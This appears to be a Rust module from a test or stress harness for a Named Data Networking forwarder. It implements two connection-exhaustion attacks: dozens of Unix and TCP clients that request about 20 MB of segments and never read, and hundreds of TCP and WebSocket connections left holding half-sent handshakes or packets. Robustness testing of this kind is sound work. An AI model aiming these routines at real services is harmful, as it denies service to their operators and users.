//! Attacks by connections.

use std::collections::BTreeMap;
use std::io::{self, Write};
use std::net::{SocketAddr, TcpStream};
use std::os::unix::net::UnixStream;
use std::time::Duration;

use namely_wire::InterestBuilder;

use super::pace::{Done, End, name, nonce};
use crate::attacks::Place;

/// Connections that do not read: half by Unix socket, half by TCP.
const READERS: u64 = 40;

/// What they ask for, octets each.
const ASKED_OCTETS: u64 = 20_000_000;

/// Octets of a segment, about.
const SEGMENT_OCTETS: u64 = 8192;

/// Connections by TCP and as many by WebSocket that never finish their first message.
const HALF_OPEN: u64 = 600;

/// How long a connection or a write to it may take.
const PATIENCE: Duration = Duration::from_millis(500);

/// Connections that ask for an object's segments again and again, and read nothing.
pub(super) fn readers(place: &Place, end: &End) -> io::Result<Done> {
    let object = name(&place.object)?;
    let mut interests = Vec::new();
    for n in 0..ASKED_OCTETS / SEGMENT_OCTETS {
        let name = object.join_segment(n % place.segments.max(1));
        interests.extend(InterestBuilder::new(name).nonce(nonce(n)).lifetime_ms(60_000).build());
    }
    let mut connections: Vec<Box<dyn Write>> = Vec::new();
    let asked = end.spread(READERS, 0.3, |n| {
        let mut connection: Box<dyn Write> = if n % 2 == 0 {
            let stream = UnixStream::connect(&place.unix)?;
            stream.set_write_timeout(Some(PATIENCE))?;
            Box::new(stream)
        } else {
            Box::new(connect(place.tcp)?)
        };
        let all = connection.write_all(&interests);
        // What has been asked stays asked.
        connections.push(connection);
        all
    });
    end.wait();
    Ok(BTreeMap::from([("asked_all", asked), ("connections", connections.len() as u64)]))
}

fn connect(address: SocketAddr) -> io::Result<TcpStream> {
    let stream = TcpStream::connect_timeout(&address, PATIENCE)?;
    stream.set_write_timeout(Some(PATIENCE))?;
    Ok(stream)
}

/// Half of a WebSocket request, and half of a packet.
pub(super) fn handshakes(place: &Place, end: &End) -> io::Result<Done> {
    let mut connections = Vec::new();
    let opened = end.spread(HALF_OPEN, 0.75, |n| {
        let (address, half): (_, &[u8]) = match place.websocket {
            Some(address) if n % 2 == 0 => (address, b"GET / HTTP/1.1\r\nHost: localhost\r\nUpgr"),
            _ => (place.tcp, &[0x05, 0xfd, 0x10, 0x00, 0x07]),
        };
        let mut connection = connect(address)?;
        connection.write_all(half)?;
        connections.push(connection);
        Ok(())
    });
    end.wait();
    Ok(BTreeMap::from([("connections", opened)]))
}
